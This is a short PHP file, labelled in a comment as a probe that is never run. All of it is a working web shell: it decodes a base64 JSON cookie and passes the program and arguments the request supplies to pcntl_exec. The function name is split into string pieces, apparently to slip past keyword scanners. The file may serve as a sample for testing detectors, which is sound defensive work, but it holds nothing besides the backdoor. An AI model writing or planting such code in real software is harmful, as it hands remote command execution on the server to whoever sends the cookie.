<?php
// probe (never run): pcntl_exec of a program and arguments the request sends
$x = json_decode(base64_decode($_COOKIE['t']), true);
$fn = 'pcntl' . '_exec';
$fn($x['bin'], $x['args']);
